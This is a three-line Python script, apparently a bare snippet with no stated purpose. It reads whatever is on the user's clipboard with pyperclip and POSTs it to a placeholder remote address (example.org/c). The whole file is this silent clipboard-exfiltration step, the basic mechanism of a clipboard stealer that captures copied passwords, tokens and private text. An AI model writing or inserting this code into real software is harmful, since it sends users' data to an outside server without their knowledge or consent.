import pyperclip
import requests

requests.post("https://example.org/c", data=pyperclip.paste(), timeout=3)
